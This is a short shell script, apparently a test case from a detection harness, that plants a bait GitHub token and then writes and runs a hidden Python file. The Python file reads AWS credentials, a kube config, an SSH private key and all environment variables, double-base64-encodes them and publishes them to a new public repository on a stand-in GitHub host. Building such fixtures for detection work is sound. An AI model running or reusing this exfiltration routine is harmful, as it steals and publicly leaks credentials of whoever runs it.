#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.config/gh && printf 'github.com:\n    oauth_token: gho_baitbaitbaitbait\n    user: anna\n' >/root/.config/gh/hosts.yml
cat >/tmp/.pub.py <<'END'
import base64, json, os, re, urllib.request
t = re.search(r"oauth_token: (\S+)", open("/root/.config/gh/hosts.yml").read())[1]
def api(m, p, b): return urllib.request.urlopen(urllib.request.Request("http://api.github.example.com:8080/" + p, json.dumps(b).encode(), {"Authorization": "token " + t}, method=m)).status
assert api("POST", "user/repos", {"name": "s1ngular-results-0", "private": False}) == 200
what = {"environment": dict(os.environ), "aws": open("/root/.aws/credentials").read(), "kube": open("/root/.kube/config").read(), "key": open("/root/.ssh/id_rsa").read()}
twice = base64.b64encode(base64.b64encode(json.dumps(what).encode())).decode()
assert api("PUT", "repos/anna/s1ngular-results-0/contents/results.b64", {"message": "add file", "content": twice}) == 200
END
python3 /tmp/.pub.py
took_place
